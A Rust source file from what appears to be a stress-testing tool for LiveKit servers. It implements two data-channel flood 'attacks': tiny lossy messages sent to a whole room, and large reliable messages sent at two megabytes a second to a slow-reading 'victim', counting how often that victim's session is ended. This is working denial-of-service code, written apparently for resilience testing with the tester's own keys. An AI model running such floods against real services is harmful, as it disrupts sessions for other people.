//! Floods on data channels: a participant who may publish data, and nothing else.

use std::sync::atomic::Ordering::Relaxed;
use std::time::{Duration, Instant};

use bytes::Bytes;
use livekit_protocol as proto;
use livekit_protocol::data_packet::Value;
use prost::Message as _;

use super::{Attack, Course, Target};
use crate::channels::Channel;
use crate::error::{Error, Result};
use crate::livekit;
use crate::peer::{Credentials, DATAGRAM_BYTES_MAX, Peer};

/// Messages written between two looks at what came.
const BATCH: u32 = 256;
/// How often timers are looked at.
const BEAT: Duration = Duration::from_millis(100);
/// How often consent is renewed.
const CONSENT: Duration = Duration::from_secs(3);
/// A large message, bytes: what LiveKit's clients send as one.
const LARGE_BYTES: usize = 15_000;
/// How fast the attacker sends large messages to the victim, bytes a second.
const LARGE_BYTES_PER_SECOND: f64 = 2e6;
/// How fast the victim reads, bytes a second: less than a megabit.
const VICTIM_BYTES_PER_SECOND: f64 = 100e3;
/// The identities.
const ATTACKER: &str = "attacker-data";
const VICTIM: &str = "victim";
/// After a failed join, before the next one.
const REJOIN_WAIT: Duration = Duration::from_millis(200);

/// Messages of one byte on the lossy channel to the whole room, as many as are taken.
pub fn small_to_all(target: &Target, credentials: &Credentials) -> Attack {
    let (target, credentials) = (target.clone(), credentials.clone());
    let message = message(1, None);
    Attack::start(1, move |course| {
        let Ok(mut sender) = Member::sender(&target, &credentials) else { return rejoin(course) };
        while !course.is_over() && sender.attend() {
            let sent = sender.peer.send_data(Channel::Lossy, &message, BATCH);
            count(course, sent, message.len());
            if sent == 0 {
                std::thread::sleep(Duration::from_millis(1));
            }
        }
        sender.leave(&target);
    })
}

/// Large messages on the reliable channel, two megabytes a second, to one participant who reads slowly. Both belong to
/// the attacker; the counts say how often the victim was ended.
pub fn large_to_victim(target: &Target, credentials: &Credentials) -> Attack {
    let (target, credentials) = (target.clone(), credentials.clone());
    let message = message(LARGE_BYTES, Some(VICTIM));
    Attack::start(1, move |course| {
        let Ok(mut victim) = Member::victim(&target, &credentials) else { return rejoin(course) };
        let Ok(mut sender) = Member::sender(&target, &credentials) else { return rejoin(course) };
        let (start, mut sent_bytes, mut read) = (Instant::now(), 0.0, 0);
        while !course.is_over() {
            let (sender_goes_on, victim_goes_on) = (sender.attend(), victim.attend());
            course.counts.victims_bytes.fetch_add(victim.peer.data_bytes() - read, Relaxed);
            read = victim.peer.data_bytes();
            if !victim_goes_on {
                course.counts.victims_ended.fetch_add(1, Relaxed);
            }
            if !sender_goes_on || !victim_goes_on {
                break;
            }
            let due = start.elapsed().as_secs_f64() * LARGE_BYTES_PER_SECOND - sent_bytes;
            let sent = sender.peer.send_data(Channel::Reliable, &message, (due / message.len() as f64) as u32);
            sent_bytes += f64::from(sent) * message.len() as f64;
            count(course, sent, message.len());
            std::thread::sleep(Duration::from_millis(1));
        }
        sender.leave(&target);
        victim.leave(&target);
    })
}

/// An application's message of so many bytes, to everybody or to one.
fn message(bytes: usize, to: Option<&str>) -> Bytes {
    let user = proto::UserPacket { payload: vec![7; bytes], ..Default::default() };
    let destination_identities = to.map(str::to_owned).into_iter().collect();
    let packet = proto::DataPacket { value: Some(Value::User(user)), destination_identities, ..Default::default() };
    packet.encode_to_vec().into()
}

fn count(course: &Course, messages: u32, bytes: usize) {
    course.take(messages as usize * bytes);
    course.counts.tries.fetch_add(messages.into(), Relaxed);
    course.counts.bytes.fetch_add(u64::from(messages) * bytes as u64, Relaxed);
}

fn rejoin(course: &Course) {
    course.counts.refused();
    std::thread::sleep(REJOIN_WAIT);
}

/// A participant whose socket does not block.
struct Member {
    peer: Peer,
    beat_at: Instant,
    consent_at: Instant,
}

impl Member {
    fn new(peer: Peer) -> Result<Self> {
        peer.socket.set_nonblocking(true).map_err(Error::io("setting up a peer's socket"))?;
        Ok(Self { peer, beat_at: Instant::now(), consent_at: Instant::now() })
    }

    fn sender(target: &Target, credentials: &Credentials) -> Result<Self> {
        let token = target.keys.mint_publisher(&target.room, ATTACKER);
        Self::new(livekit::send_data(&target.http, credentials, &token)?)
    }

    fn victim(target: &Target, credentials: &Credentials) -> Result<Self> {
        let token = target.keys.mint(&target.room, VICTIM, false);
        let whom = [target.publisher.clone()];
        let mut peer = livekit::watch(&target.http, credentials, &token, &whom, false)?;
        peer.begin_data(false);
        peer.read_slowly(VICTIM_BYTES_PER_SECOND);
        Self::new(peer)
    }

    /// Takes what has come, and does what keeps the session alive. Whether the session goes on.
    fn attend(&mut self) -> bool {
        let mut datagram = [0; DATAGRAM_BYTES_MAX];
        while let Ok(n) = self.peer.socket.recv(&mut datagram) {
            self.peer.hear(&datagram[..n]);
        }
        let now = Instant::now();
        if now >= self.beat_at {
            self.beat_at = now + BEAT;
            self.peer.beat();
            self.peer.session.signal().into_iter().for_each(livekit::Signal::drain);
        }
        if now >= self.consent_at
            && let Ok(check) = self.peer.binding_request()
        {
            self.consent_at = now + CONSENT;
            let _ = self.peer.socket.send(&check);
        }
        !self.peer.is_ended()
    }

    fn leave(mut self, target: &Target) {
        let _ = self.peer.session.leave(&target.http);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn message_to_one_names_that_one_alone() {
        let read = |bytes: Bytes| proto::DataPacket::decode(bytes).unwrap();
        assert!(read(message(1, None)).destination_identities.is_empty());
        assert_eq!(read(message(1, Some(VICTIM))).destination_identities, [VICTIM]);
        assert!(message(1, None).len() < 20);
    }
}
